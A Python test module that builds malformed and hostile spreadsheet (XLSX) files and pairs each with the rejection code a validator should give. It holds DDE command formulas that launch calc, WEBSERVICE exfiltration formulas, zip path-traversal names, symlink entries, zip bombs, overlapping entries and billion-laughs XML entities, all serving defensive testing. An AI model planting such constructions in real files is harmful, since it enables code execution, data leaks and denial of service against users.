"""Files that are broken, odd or mean harm, each made from an honest bundle, and what is said."""

from __future__ import annotations

import io
import re
import stat
import struct
import warnings
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import TypeVar

from thidua_desktop.bundles import limits
from thidua_desktop.bundles.frame import MAIN, frame_of
from thidua_desktop.bundles.layout import NAMES
from thidua_desktop.bundles.package import Package

OLE = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(600)
TYPES, LINKS, BOOK = "[Content_Types].xml", "xl/_rels/workbook.xml.rels", "xl/workbook.xml"
STRINGS = "xl/sharedStrings.xml"
STYLES, CUSTOM = "xl/styles.xml", "docProps/custom.xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PICTURE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="r" Type="{OFFICE}/image" Target="file://server/a.png"'
    ' TargetMode="External"/></Relationships>'
)
DOCTYPE = b'<!DOCTYPE a [<!ENTITY b "c">]>'
RUNS = b"<definedName name='x'>cmd|' /C calc'!A0</definedName>"
LAUGHS = (
    b"<!DOCTYPE a ["
    + b"".join(b'<!ENTITY l%d "%s">' % (n + 1, b"&l%d;" % n * 10) for n in range(9))
    + b"]>"
)


T = TypeVar("T")


@dataclass(frozen=True)
class Case:
    """A hostile file: how it is made from an honest one, and the codes that may be said of it."""

    make: Callable[[bytes], bytes]
    codes: frozenset[str]


CASES: dict[str, Case] = {}


def case(name: str, *codes: str) -> Callable[[Callable[[bytes], bytes]], None]:
    """Register what makes a file."""

    def add(make: Callable[[bytes], bytes]) -> None:
        assert name not in CASES
        CASES[name] = Case(make, frozenset(codes))

    return add


def given(name: str, code: str, make: Callable[[bytes], bytes]) -> None:
    """Register a file in one line."""
    case(name, code)(make)


def using(item: T, make: Callable[[bytes, T], bytes]) -> Callable[[bytes], bytes]:
    """Return what makes a file of an honest one and of one thing more."""
    return lambda data: make(data, item)


# Tools.


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(parts: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return file.getvalue()


def with_part(data: bytes, name: str, part: bytes = b"x") -> bytes:
    file = io.BytesIO(data)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(name, part)
    return file.getvalue()


def replaced(data: bytes, part: str, old: bytes, new: bytes) -> bytes:
    """Return the file with other bytes in one part."""
    parts = parts_of(data)
    assert old in parts[part], (part, old)
    return zipped({**parts, part: parts[part].replace(old, new, 1)})


def sheet_of(data: bytes) -> str:
    """Return the part of a sheet of rows."""
    sheets = frame_of(Package(data)).sheets
    return next(part for name, part in sheets.items() if name in {"HOAT_DONG", *NAMES.values()})


def in_sheet(data: bytes, old: bytes, new: bytes) -> bytes:
    return replaced(data, sheet_of(data), old, new)


def more_rows(data: bytes, rows: bytes) -> bytes:
    return in_sheet(data, b"</sheetData>", rows + b"</sheetData>")


def in_encoding(data: bytes, place: tuple[str, str]) -> bytes:
    """Return the file with one part in another encoding."""
    part, encoding = place
    text = parts_of(data)[part].decode().replace("UTF-8", "UTF-16")
    return zipped({**parts_of(data), part: text.encode(encoding)})


def with_shared_texts(data: bytes) -> bytes:
    """Return the file as Excel and LibreOffice keep texts: once for the whole workbook."""
    parts = parts_of(data)
    texts: list[bytes] = []

    def share(found: re.Match[bytes]) -> bytes:
        texts.append(found[2])
        return b'%b t="s"><v>%d</v></c>' % (found[1], len(texts) - 1)

    inline = re.compile(rb'(<c r="\w+"(?: s="\d+")?) t="inlineStr"><is>(<t[ >].*?)</is></c>', re.S)
    sheets = {name: inline.sub(share, part) for name, part in parts.items() if "sheets/" in name}
    items = b"".join(b"<si>%b</si>" % text for text in texts)
    strings = b'<sst xmlns="%b">%b</sst>' % (MAIN.encode(), items)
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    override = f'<Override PartName="/{STRINGS}" ContentType="{kind}"/></Types>'.encode()
    link = f'<Relationship Id="sst" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
    frame = {
        STRINGS: strings,
        TYPES: parts[TYPES].replace(b"</Types>", override),
        LINKS: parts[LINKS].replace(b"</Relationships>", link.encode() + b"</Relationships>"),
    }
    return zipped({**parts, **sheets, **frame})


def entry_at(data: bytes, name: str) -> int:
    """Return where an entry stands in the directory."""
    at = data.index(b"PK\x01\x02")
    while True:
        length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46 : at + 46 + length] == name.encode():
            return at
        at = data.index(b"PK\x01\x02", at + 4)


def in_directory(data: bytes, name: str, offset: int, form: str, value: int) -> bytes:
    changed = bytearray(data)
    struct.pack_into(form, changed, entry_at(data, name) + offset, value)
    return bytes(changed)


def in_header(data: bytes, name: str, offset: int, form: str, value: int) -> bytes:
    """Change an entry's own header."""
    changed = bytearray(data)
    at = struct.unpack_from("<I", data, entry_at(data, name) + 42)[0]
    struct.pack_into(form, changed, at + offset, value)
    return bytes(changed)


def described(data: bytes, *, lie: int = 0) -> bytes:
    """Return the file as one that was written to a pipe: sizes behind the bytes."""

    class Pipe(io.BytesIO):
        def seekable(self) -> bool:
            return False

        def seek(self, *_: int) -> int:
            raise OSError

        def tell(self) -> int:
            raise OSError

    file = Pipe()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts_of(data).items():
            archive.writestr(name, part)
    made = bytearray(file.getvalue())
    if lie:
        at = made.index(b"PK\x07\x08")
        struct.pack_into("<I", made, at + 12, lie)
    return bytes(made)


def infolist(data: bytes, change: Callable[[zipfile.ZipInfo], None], name: str) -> bytes:
    """Add an entry that is no plain file."""
    file = io.BytesIO(data)
    with zipfile.ZipFile(file, "a") as archive:
        entry = zipfile.ZipInfo(name)
        change(entry)
        archive.writestr(entry, b"/etc/passwd")
    return file.getvalue()


# What the file is.

given("zero length", "file_empty", lambda _: b"")
given("a page", "file_is_web_page", lambda _: b"\xef\xbb\xbf\n<html><table><tr><td>1</td></table>")
given("xml of 2003", "file_is_web_page", lambda _: b'<?xml version="1.0"?><Workbook/>')
given("comma separated", "not_a_workbook", lambda _: "STT;Tên\n1;Đào".encode())
given("zeros", "not_a_workbook", lambda _: bytes(4096))
given("old xls", "file_is_old_xls", lambda _: OLE + "Workbook".encode("utf-16-le"))
given("password", "file_has_password", lambda _: OLE + "EncryptedPackage".encode("utf-16-le"))
given("old letter", "not_a_workbook", lambda _: OLE + "WordDocument".encode("utf-16-le"))
given("only an end", "not_a_workbook", lambda _: b"PK\x05\x06" + bytes(18))
given("only a beginning", "file_damaged", lambda _: b"PK\x03\x04" + bytes(100))
given("too large", "file_too_large", lambda data: data + bytes(limits.MOST_BYTES))
for share in (0.2, 0.5, 0.9, 0.99):
    given(
        f"cut at {share}", "file_damaged", using(share, lambda data, s: data[: int(len(data) * s)])
    )
given(
    "a letter",
    "not_a_workbook",
    lambda data: replaced(
        data, TYPES, b"spreadsheetml.sheet.main", b"wordprocessingml.document.main"
    ),
)
given(
    "open document",
    "not_a_workbook",
    lambda _: zipped(
        {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}
    ),
)
given("any zip", "not_a_workbook", lambda _: zipped({"a.txt": b"a"}))
given(
    "binary workbook",
    "file_is_xlsb",
    lambda data: replaced(
        data,
        TYPES,
        b"openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"ms-excel.sheet.binary.macroEnabled.main",
    ),
)
given(
    "strict workbook",
    "strict_workbook",
    lambda data: replaced(
        data, BOOK, MAIN.encode(), b"http://purl.oclc.org/ooxml/spreadsheetml/main"
    ),
)
given(
    "strict sheet",
    "strict_workbook",
    lambda data: in_sheet(data, MAIN.encode(), b"http://purl.oclc.org/ooxml/spreadsheetml/main"),
)

# How it is packed.

for number, path in enumerate(
    (
        "../evil.xml",
        "/etc/evil.xml",
        "xl\\evil.xml",
        "C:/evil.xml",
        "xl//evil.xml",
        "./evil.xml",
        "xl/../evil.xml",
    )
):
    given(f"path {number}", "package_path_unsafe", using(path, with_part))


@case("zero in a name", "package_path_unsafe", "package_headers_differ", "file_damaged")
def _(data: bytes) -> bytes:
    return with_part(data, "xl/evilQ.xml").replace(b"xl/evilQ.xml", b"xl/evil\0.xml")


given(
    "two of a name",
    "package_names_repeated",
    lambda data: with_part(data, sheet_of(data), b"<EVIL/>"),
)
given("two but for case", "package_names_repeated", lambda data: with_part(data, "XL/WORKBOOK.XML"))
given("a folder of a name", "package_names_repeated", lambda data: with_part(data, f"{BOOK}/", b""))


@case("a symbolic link", "package_not_plain")
def _(data: bytes) -> bytes:
    def link(entry: zipfile.ZipInfo) -> None:
        entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16

    return infolist(data, link, "xl/link.xml")


@case("a pipe inside", "package_not_plain")
def _(data: bytes) -> bytes:
    def pipe(entry: zipfile.ZipInfo) -> None:
        entry.external_attr = (stat.S_IFIFO | 0o666) << 16

    return infolist(data, pipe, "xl/pipe.xml")


for number, bit in enumerate((0x1, 0x40, 0x2000)):
    given(
        f"encrypted {number}",
        "package_encrypted",
        using(bit, lambda data, b: in_directory(data, BOOK, 8, "<H", b)),
    )
given(
    "encrypted in its header",
    "package_headers_differ",
    lambda data: in_header(data, BOOK, 6, "<H", 1),
)
given("packed by bzip2", "package_method", lambda data: zipped(parts_of(data), zipfile.ZIP_BZIP2))
given("packed by lzma", "package_method", lambda data: zipped(parts_of(data), zipfile.ZIP_LZMA))
given(
    "a size too small",
    "package_headers_differ",
    lambda data: in_directory(data, BOOK, 24, "<I", 100),
)
given(
    "a size too great",
    "package_headers_differ",
    lambda data: in_directory(data, BOOK, 24, "<I", 10_000_000),
)
given(
    "both sizes too small",
    "package_size_lies",
    lambda data: in_header(in_directory(data, BOOK, 24, "<I", 100), BOOK, 22, "<I", 100),
)
given(
    "both sizes too great",
    "package_size_lies",
    lambda data: in_header(in_directory(data, BOOK, 24, "<I", 9999), BOOK, 22, "<I", 9999),
)
given(
    "a wrong sum",
    "file_damaged",
    lambda data: in_header(in_directory(data, BOOK, 16, "<I", 7), BOOK, 14, "<I", 7),
)
given(
    "a packed size too great",
    "package_overlaps",
    lambda data: in_header(in_directory(data, TYPES, 20, "<I", 5000), TYPES, 18, "<I", 5000),
)
given(
    "another name inside",
    "package_headers_differ",
    lambda data: data.replace(b"xl/workbook.xml", b"xl/wurkbook.xml", 1),
)
given("a lying descriptor", "package_headers_differ", lambda data: described(data, lie=5))
given("junk before", "package_disordered", lambda data: b"PK\x03\x04 junk" + data)
given("junk behind", "package_disordered", lambda data: data + b"junk" * 10)


@case("an end of 64 bits", "package_disordered", "file_damaged")
def _(data: bytes) -> bytes:
    at = data.rindex(b"PK\x05\x06")
    count, _, size, offset = struct.unpack_from("<HHII", data, at + 8)
    record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, offset)
    return data[:at] + record + struct.pack("<4sLQL", b"PK\x06\x07", 0, at, 1) + data[at:]


@case("entries over each other", "package_overlaps", "package_headers_differ")
def _(data: bytes) -> bytes:
    # Two entries of the directory on one set of bytes (CVE-2024-0450).
    data = with_part(data, "xl/copyone.xml", b"<a/>" * 1000)
    first = entry_at(data, "xl/copyone.xml")
    twin = bytearray(data[first : first + 46 + len("xl/copyone.xml")])
    end = data.rindex(b"PK\x05\x06")
    twin[46:] = b"xl/copytwo.xml"
    tail = bytearray(data[end:])
    count, size = struct.unpack_from("<HH", tail, 8)[0], struct.unpack_from("<I", tail, 12)[0]
    struct.pack_into("<HH", tail, 8, count + 1, count + 1)
    struct.pack_into("<I", tail, 12, size + len(twin))
    return bytes(data[:end] + twin + tail)


@case("entries inside each other", "package_overlaps")
def _(data: bytes) -> bytes:
    inner = zipped({"xl/inner.xml": b"<a/>"})
    outer = io.BytesIO(data)
    with zipfile.ZipFile(outer, "a") as archive:
        archive.writestr("xl/outer.xml", inner)
    made = outer.getvalue()
    at = made.index(b"PK\x03\x04", made.index(b"xl/outer.xml"))
    local = made[at:]
    entry = inner[inner.index(b"PK\x01\x02") : inner.rindex(b"PK\x05\x06")]
    assert local.startswith(b"PK\x03\x04")
    entry = entry[:42] + struct.pack("<I", at) + entry[46:]
    end = made.rindex(b"PK\x05\x06")
    tail = bytearray(made[end:])
    count, size = struct.unpack_from("<H", tail, 8)[0], struct.unpack_from("<I", tail, 12)[0]
    struct.pack_into("<HH", tail, 8, count + 1, count + 1)
    struct.pack_into("<I", tail, 12, size + len(entry))
    return made[:end] + entry + bytes(tail)


@case("too many parts", "package_too_many_parts")
def _(data: bytes) -> bytes:
    more = {f"xl/media/{number}.png": b"x" for number in range(limits.MOST_PARTS)}
    return zipped({**parts_of(data), **more})


given(
    "a bomb",
    "package_inflates_too_far",
    lambda data: with_part(data, "xl/media/a.png", bytes(101 * limits.MEGABYTE)),
)
given(
    "a dense bomb",
    "package_inflates_too_far",
    lambda data: with_part(data, "xl/media/a.xml", bytes(11 * limits.MEGABYTE)),
)


@case("many small bombs", "package_inflates_too_far")
def _(data: bytes) -> bytes:
    bomb = bytes(9 * limits.MEGABYTE)
    return zipped({**parts_of(data), **{f"xl/media/{n}.png": bomb for n in range(25)}})


given(
    "spaces for a sheet",
    "row_too_large",
    lambda data: more_rows(data, b" " * (9 * limits.MEGABYTE)),
)

# What acts, or reaches out.

for name, code in {
    "xl/vbaProject.bin": "package_macro",
    "xl/macrosheets/sheet1.xml": "package_macro",
    "customUI/customUI.xml": "package_macro",
    "xl/externalLinks/externalLink1.xml": "package_external_link",
    "xl/connections.xml": "package_external_link",
    "xl/queryTables/queryTable1.xml": "package_external_link",
    "xl/embeddings/oleObject1.bin": "package_embedded_object",
    "xl/activeX/activeX1.xml": "package_embedded_object",
    "xl/ctrlProps/ctrlProp1.xml": "package_embedded_object",
    "xl/media/run.exe": "package_embedded_object",
    "open.lnk": "package_embedded_object",
}.items():
    given(f"part {name}", code, using(name, with_part))
for kind, code in {
    "vbaProject": "package_macro",
    "xlMacrosheet": "package_macro",
    "externalLink": "package_external_link",
    "externalLinkPath": "package_external_link",
    "connections": "package_external_link",
    "oleObject": "package_embedded_object",
    "control": "package_embedded_object",
}.items():
    link = (
        f'<Relationship Id="q" Type="{OFFICE}/{kind}" Target="media/image1.png"/></Relationships>'
    )
    given(
        f"linked as {kind}",
        code,
        using(link, lambda data, t: replaced(data, LINKS, b"</Relationships>", t.encode())),
    )
given(
    "a picture from elsewhere",
    "package_external_link",
    lambda data: with_part(data, "xl/drawings/_rels/drawing1.xml.rels", PICTURE.encode()),
)
given(
    "macros renamed",
    "package_macro",
    lambda data: replaced(
        data,
        TYPES,
        b"openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"ms-excel.sheet.macroEnabled.main+xml",
    ),
)
for number, formula in enumerate(
    (
        "WEBSERVICE(&quot;http://a/&quot;&amp;A1)",
        "cmd|'/c calc'!A0",
        "[1.xlsx]S!A1",
        "'\\\\server\\[a.xlsx]S'!A1",
    )
):
    cell = f'<row r="99"><c r="A99"><f>{formula}</f><v>1</v></c></row>'
    given(
        f"formula {number}",
        "formula_reaches_out",
        using(cell, lambda data, c: more_rows(data, c.encode())),
    )
given(
    "a name that runs",
    "formula_reaches_out",
    lambda data: replaced(
        data, BOOK, b"</sheets>", b"</sheets><definedNames>" + RUNS + b"</definedNames>"
    ),
)

# XML.

for part in (
    TYPES,
    "_rels/.rels",
    BOOK,
    LINKS,
    STYLES,
    CUSTOM,
    "docProps/core.xml",
    "docProps/app.xml",
    "xl/theme/theme1.xml",
):
    given(
        f"document type in {part}",
        "package_doctype",
        using(part, lambda data, p: zipped({**parts_of(data), p: DOCTYPE + parts_of(data)[p]})),
    )
    given(
        f"entities in {part}",
        "package_doctype",
        using(part, lambda data, p: zipped({**parts_of(data), p: LAUGHS + parts_of(data)[p]})),
    )
given(
    "document type in the sheet",
    "package_doctype",
    lambda data: zipped(
        {**parts_of(data), sheet_of(data): DOCTYPE + parts_of(data)[sheet_of(data)]}
    ),
)
given(
    "document type late",
    "package_doctype",
    lambda data: zipped(
        {
            **parts_of(data),
            BOOK: b"<!--"
            + b" " * 100_000
            + b"-->"
            + DOCTYPE
            + parts_of(data)[BOOK].removeprefix(b"<?xml version='1.0' encoding='UTF-8'?>"),
        }
    ),
)


@case("document type behind another name", "package_doctype")
def _(data: bytes) -> bytes:
    part = sheet_of(data)
    parts = parts_of(data)
    parts["xl/rows.dat"] = DOCTYPE + parts.pop(part)
    name = part.removeprefix("xl/").encode()
    links = parts[LINKS].replace(b"/xl/" + name, b"/xl/rows.dat").replace(name, b"rows.dat")
    return zipped(
        {**parts, LINKS: links, TYPES: parts[TYPES].replace(part.encode(), b"xl/rows.dat")}
    )


for encoding in ("utf-16", "utf-16-le", "utf-16-be"):
    for part in (BOOK, STYLES, CUSTOM):
        given(
            f"{encoding} in {part}",
            "package_encoding",
            using((part, encoding), in_encoding),
        )
    given(
        f"{encoding} in the sheet",
        "package_encoding",
        using(encoding, lambda data, e: in_encoding(data, (sheet_of(data), e))),
    )
for encoding in ("windows-1252", "utf-7", "ebcdic-cp-us"):
    given(
        f"declared {encoding}",
        "package_encoding",
        using(
            encoding,
            lambda data, e: zipped(
                {
                    **parts_of(data),
                    sheet_of(data): f'<?xml version="1.0" encoding="{e}"?>'.encode()
                    + parts_of(data)[sheet_of(data)],
                }
            ),
        ),
    )
given(
    "no xml for a workbook",
    "package_encoding",
    lambda data: zipped({**parts_of(data), BOOK: b"workbook"}),
)
given(
    "too many marks",
    "package_part_too_dense",
    lambda data: replaced(
        data,
        STYLES,
        b"</styleSheet>",
        b"<extLst>" + b"<a/>" * limits.MOST_MARKS + b"</extLst></styleSheet>",
    ),
)
given(
    "a large frame",
    "package_part_too_large",
    lambda data: replaced(data, BOOK, b"</sheets>", b"</sheets>" + b" " * limits.MOST_PLAIN_BYTES),
)
given(
    "far too many names",
    "too_many_names",
    lambda data: replaced(
        data,
        BOOK,
        b"</sheets>",
        b"</sheets><definedNames>"
        + b'<definedName name="a">A</definedName>' * (limits.MOST_NAMES + 1)
        + b"</definedNames>",
    ),
)
given(
    "far too many formats",
    "too_many_formats",
    lambda data: replaced(
        data, STYLES, b"</cellXfs>", b'<xf numFmtId="0"/>' * limits.MOST_FORMATS + b"</cellXfs>"
    ),
)
given(
    "a tower of marks",
    "not_readable",
    lambda data: replaced(data, BOOK, b"</sheets>", b"</sheets>" + b"<a>" * 200_000),
)
given(
    "no links",
    "package_part_missing",
    lambda data: zipped({n: p for n, p in parts_of(data).items() if n != LINKS}),
)
given(
    "no sheet behind its name",
    "package_part_missing",
    lambda data: zipped({n: p for n, p in parts_of(data).items() if n != sheet_of(data)}),
)
given(
    "no types",
    "not_a_workbook",
    lambda data: zipped({n: p for n, p in parts_of(data).items() if n != TYPES}),
)
given(
    "a broken workbook", "not_readable", lambda data: replaced(data, BOOK, b"<sheets>", b"<sheet>")
)


@case("too many sheets", "too_many_sheets")
def _(data: bytes) -> bytes:
    more = "".join(
        f'<sheet name="S{n}" sheetId="{n + 100}" r:id="z{n}"/>' for n in range(limits.MOST_SHEETS)
    )
    book = parts_of(data)[BOOK]
    spelled = more.replace("r:id", "xr:id").encode()
    opened = book.replace(b"<workbook ", f'<workbook xmlns:xr="{OFFICE}" '.encode(), 1)
    return zipped({**parts_of(data), BOOK: opened.replace(b"</sheets>", spelled + b"</sheets>")})


given(
    "sheets of one name",
    "sheet_names_repeated",
    lambda data: replaced(data, BOOK, b'name="_TDX"', b'name="bia"'),
)


@case("sheets of one part", "sheet_part_shared")
def _(data: bytes) -> bytes:
    parts = parts_of(data)
    names = sorted(n for n in parts if n.startswith("xl/worksheets/sheet"))
    one, two = (name.removeprefix("xl/").encode() for name in names[:2])
    return zipped({**parts, LINKS: parts[LINKS].replace(one, two)})


# A sheet.

given(
    "the last cell of all",
    "cells_far_below",
    lambda data: more_rows(data, b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>'),
)
given(
    "the last corner",
    "cell_too_far",
    lambda data: more_rows(data, b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
)
given(
    "a cell far to the right",
    "cell_too_far",
    lambda data: more_rows(data, b'<row r="99"><c r="XFD99"><v>1</v></c></row>'),
)
given(
    "a row beyond all rows",
    "cells_disordered",
    lambda data: more_rows(data, b'<row r="1048577"><c r="A1048577"><v>1</v></c></row>'),
)
given(
    "a column beyond all columns",
    "cell_too_far",
    lambda data: more_rows(data, b'<row r="99"><c r="ZZZ99"><v>1</v></c></row>'),
)


@case("far cells in many rows", "cell_too_far")
def _(data: bytes) -> bytes:
    rows = b"".join(
        b'<row r="%d"><c r="XFD%d"><v>1</v></c></row>' % (n, n) for n in range(100, 20_100)
    )
    return more_rows(data, rows)


given(
    "a row twice",
    "cells_disordered",
    lambda data: more_rows(data, b'<row r="3"><c r="A3"><v>1</v></c></row>'),
)
given(
    "rows out of order",
    "cells_disordered",
    lambda data: more_rows(
        data, b'<row r="99"><c r="A99"><v>1</v></c></row><row r="98"><c r="A98"><v>1</v></c></row>'
    ),
)
given(
    "a cell twice",
    "cells_disordered",
    lambda data: more_rows(
        data, b'<row r="99"><c r="A99"><v>1</v></c><c r="A99"><v>2</v></c></row>'
    ),
)
given(
    "cells out of order",
    "cells_disordered",
    lambda data: more_rows(
        data, b'<row r="99"><c r="B99"><v>1</v></c><c r="A99"><v>2</v></c></row>'
    ),
)
given(
    "a cell of another row",
    "cells_disordered",
    lambda data: more_rows(data, b'<row r="99"><c r="A3"><v>1</v></c></row>'),
)
for number, hidden in enumerate(
    (
        b"<!-- a -->",
        b"<?pi?>",
        b'<row r="99"><c r="A99" t="str"><v>a]]>b</v></c></row>',
        b'<row r="99"><c r="A99" t="str"><v><![CDATA[x]]></v></c></row>',
        b'<row r="99"><!-- a --><c r="A99"><v>1</v></c></row>',
    )
):
    given(
        f"hidden markup {number}",
        "sheet_hidden_markup",
        using(hidden, more_rows),
    )
given(
    "a comment before the rows",
    "sheet_hidden_markup",
    lambda data: in_sheet(data, b"<sheetData>", b"<!-- <sheetData> --><sheetData>"),
)
given(
    "rows behind the rows",
    "sheet_hidden_markup",
    lambda data: in_sheet(
        data,
        b"</sheetData>",
        b'</sheetData><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>',
    ),
)
given(
    "rows of another name",
    "sheet_hidden_markup",
    lambda data: in_sheet(
        data,
        b"</sheetData>",
        b'</sheetData><x:sheetData xmlns:x="' + MAIN.encode() + b'"><x:row r="1"/></x:sheetData>',
    ),
)
given(
    "a text too long",
    "cell_text_too_long",
    lambda data: more_rows(
        data,
        b'<row r="99"><c r="A99" t="inlineStr"><is><t>'
        + b"a" * (limits.MOST_CELL_CHARACTERS + 1)
        + b"</t></is></c></row>",
    ),
)
given(
    "a row too large",
    "row_too_large",
    lambda data: more_rows(data, b'<row r="99">' + b'<c r="A99"/>' * 400_000 + b"</row>"),
)
given(
    "many cells in a row",
    "cells_disordered",
    lambda data: more_rows(
        data, b'<row r="99">' + b'<c r="A99"><v>1</v></c>' * 150_000 + b"</row>"
    ),
)
for number, text in enumerate(
    (
        b"\xff\xfe",
        b"\xed\xa0\x80",
        b"\xc0\x80",
        b"&#0;",
        b"&#xD800;",
        b"&foo;",
        b"\x01",
        b"\xef\xbf\xbf",
    )
):
    given(
        f"no text {number}",
        "not_readable",
        using(
            text,
            lambda data, t: more_rows(
                data, b'<row r="99"><c r="A99" t="str"><v>' + t + b"</v></c></row>"
            ),
        ),
    )
for number, value in enumerate((b"<v>abc</v>", b"<v>NaN</v>", b"<v>0x10</v>")):
    given(
        f"no number {number}",
        "not_readable",
        using(
            value, lambda data, c: more_rows(data, b'<row r="99"><c r="A99">' + c + b"</c></row>")
        ),
    )
given(
    "a text that is not there",
    "not_readable",
    lambda data: more_rows(data, b'<row r="99"><c r="A99" t="s"><v>999999</v></c></row>'),
)
given(
    "a format that is not there",
    "not_readable",
    lambda data: more_rows(data, b'<row r="99"><c r="A99" s="60000"><v>1</v></c></row>'),
)
given("an end too early", "not_readable", lambda data: in_sheet(data, b"</worksheet>", b""))
given(
    "a sheet of nothing",
    "not_readable",
    lambda data: zipped({**parts_of(data), sheet_of(data): b""}),
)
given(
    "too many merged",
    "merged_too_many",
    lambda data: in_sheet(
        data,
        b"</sheetData>",
        b"</sheetData><mergeCells>"
        + b'<mergeCell ref="A3:B3"/>' * (limits.MOST_MERGED + 1)
        + b"</mergeCells>",
    ),
)
given(
    "merged beyond reading",
    "not_readable",
    lambda data: in_sheet(
        data, b"</sheetData>", b'</sheetData><mergeCells><mergeCell ref="A:A"/></mergeCells>'
    ),
)
given(
    "unusual and large",
    "sheet_markup_unusual",
    lambda data: more_rows(
        data,
        b"".join(
            b'<row r="%d"><c s="0" r="A%d"><v>1</v></c></row>' % (n, n) for n in range(100, 200_100)
        ),
    ),
)
